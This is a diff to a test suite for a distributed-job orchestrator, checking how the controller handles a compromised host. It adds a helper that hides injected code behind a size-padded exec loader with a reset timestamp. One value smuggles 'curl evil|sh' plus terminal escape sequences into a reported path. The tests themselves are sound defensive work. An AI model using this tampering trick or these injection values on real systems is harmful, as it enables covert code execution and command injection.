@@ -6,6 +6,7 @@ import json
 import os
 import re
 import secrets
+import shlex
 import subprocess
 from pathlib import Path
 
@@ -65,6 +66,19 @@ def test_a_key_swapped_in_mid_project_is_refused_on_reconnect(tmp_path: Path, ju
 
 # --- S12: a host in hostile hands
 
+
+def tamper(program: Path, module: str, lie: str) -> None:
+    """Add code to a module of the node program on a host. Its size stays, by which a session finds it damaged."""
+    path = program / "node" / f"{module}.py"
+    honest, lying = path.with_suffix(".honest"), path.with_suffix(".lying")
+    if not honest.exists():
+        honest.write_bytes(path.read_bytes())
+    lying.write_text(f"{honest.read_text()}\n{lie}\n")
+    loader = 'exec(compile(open(__file__[:-3] + ".lying").read(), __file__, "exec"))\n'
+    path.write_text(loader.ljust(honest.stat().st_size, "#"))
+    os.utime(path, (0, 0))  # of the same size and second as the byte code, it would not be read
+
+
 HOSTILE = """
 import os as _os
 
@@ -96,11 +110,10 @@ def test_a_host_that_lies_fails_alone_and_writes_nothing_to_the_terminal_or_the_
     text = "import os, pathlib; pathlib.Path(os.environ['DDP_ORCH_OUTPUT_DIR'], 'x.txt').write_text('x'); print('hi')"
     ok(orch(lab2, "up", inventory, "--name", "mine", "--", script(lab2, text)))
     (program,) = lab2.hosts[1].home.glob(".local/state/ddp-orch/node-*")
-    honest = (program / "node/runs.py").read_text()
     shown = ok(orch(lab2, "ps", "-i", inventory, "--all", "--json")).stdout
     home = sorted(lab2.controller_home.rglob("*"))
     for lie, code in LIES.items():
-        (program / "node/runs.py").write_text(f"{honest}\n{HOSTILE}\n{code}\n")
+        tamper(program, "runs", f"{HOSTILE}\n{code}")
         for name, argv in COMMANDS.items():
             result = orch(lab2, *argv, "-i", inventory)
             assert result.returncode == (0 if name == "top" else 4), (lie, name, result.stderr)
@@ -116,10 +129,10 @@ def test_a_host_that_lies_fails_alone_and_writes_nothing_to_the_terminal_or_the_
 
 
 FULL = """
-_look = look
+honest_look = look
 
 def look(*arguments):
-    said = _look(*arguments)
+    said = honest_look(*arguments)
     path = "/x; curl evil|sh #" + chr(27) + "]52;c;Zm9v" + chr(7) + chr(27) + "[2J" + chr(10) + "error: EVIL"
     said["disks"]["state"].update(path=path, free=7)
     return said
@@ -130,14 +143,14 @@ def test_check_shows_no_escape_of_a_host_and_quotes_what_is_to_be_pasted(lab2: L
     inventory = lab2.inventory()
     ok(orch(lab2, "check", inventory, "--quick"))
     (program,) = lab2.hosts[1].home.glob(".local/state/ddp-orch/node-*")
-    probe = program / "node/probe.py"
-    probe.write_text(probe.read_text() + FULL)
+    tamper(program, "probe", FULL)
     for argv in (("check", inventory, "--quick"), ("up", inventory, "-d", "--", script(lab2, "print('hi')"))):
         result = ok(orch(lab2, *argv), 3)
         said = result.stdout + result.stderr
         assert "curl evil" in said and not CONTROL.search(said)
         assert not any(line.startswith("error: EVIL") for line in said.splitlines())
-        assert "du -xsh '/x; curl evil|sh # error: EVIL'/* | sort -h" in said
+        (fix,) = [line for line in said.splitlines() if "du -xsh" in line]
+        assert "du -xsh '/x; curl evil|sh # error: EVIL'/* | sort -h" in shlex.split(fix[fix.index("ddp-orch exec") :])
 
 
 MORE_LIES = {
@@ -155,18 +168,17 @@ def test_what_else_a_host_may_lie_about_ends_no_command_with_a_traceback(lab2: L
     inventory = lab2.inventory(run={"launcher": "direct"})
     ok(orch(lab2, "up", inventory, "--name", "mine", "--", script(lab2, "print('hi')")))
     (program,) = lab2.hosts[1].home.glob(".local/state/ddp-orch/node-*")
-    path = program / f"node/{module}.py"
-    path.write_text(f"{path.read_text()}\n{lie}\n")
+    tamper(program, module, lie)
     result = orch(lab2, command, "mine", "-i", inventory)
     assert "Traceback" not in result.stderr and result.returncode in (0, 4), (result.returncode, result.stderr)
     assert not (lab2.controller_home / ".ssh/authorized_keys").exists()
 
 
 FORGED = """
-_describe = describe
+honest_describe = describe
 
 def describe(run_id, folder):
-    said = _describe(run_id, folder)
+    said = honest_describe(run_id, folder)
     if said is not None:
         said.update(node=%d, name="owned", state="succeeded", verdict={"state": "succeeded"}, exit_code=0)
     return said
@@ -178,8 +190,7 @@ def test_no_host_but_the_head_tells_how_a_run_ended(lab2: Lab, node: int) -> Non
     inventory = lab2.inventory(run={"launcher": "direct"})
     ok(orch(lab2, "up", inventory, "--", script(lab2, "print('hi')")))
     (program,) = lab2.hosts[1].home.glob(".local/state/ddp-orch/node-*")
-    runs_py = program / "node/runs.py"
-    runs_py.write_text(runs_py.read_text() + FORGED % node)
+    tamper(program, "runs", FORGED % node)
     failing = script(lab2, "import os, sys; sys.exit(3 if os.environ['RANK'] == '0' else 0)")
     ended = orch(lab2, "up", inventory, "--name", "mine", "--", failing)
     assert ended.returncode == 1 and "failed: node-0: rank 0: exit code 3" in ended.stderr, ended.stderr
@@ -207,8 +218,7 @@ def test_a_host_that_is_in_no_run_ends_none(lab2: Lab) -> None:
     listed = lab2.hosts[0].run([lab2.python, "-c", listing, at], "ann", check=True).stdout
     (honest,) = json.loads(listed)["runs"]
     lie = {**honest, "state": "succeeded", "exit_code": 0}
-    runs_py = program / "node/runs.py"
-    runs_py.write_text(f"{runs_py.read_text()}\nlisting = lambda _: {{'runs': [{lie!r}]}}\n")
+    tamper(program, "runs", f"listing = lambda _: {{'runs': [{lie!r}]}}")
     for argv in (("ps",), ("kill", "--stale")):
         result = ok(orch(lab2, *argv, "-i", both))
         assert f"node-1: ignored what it says of run {run_id}" in result.stderr
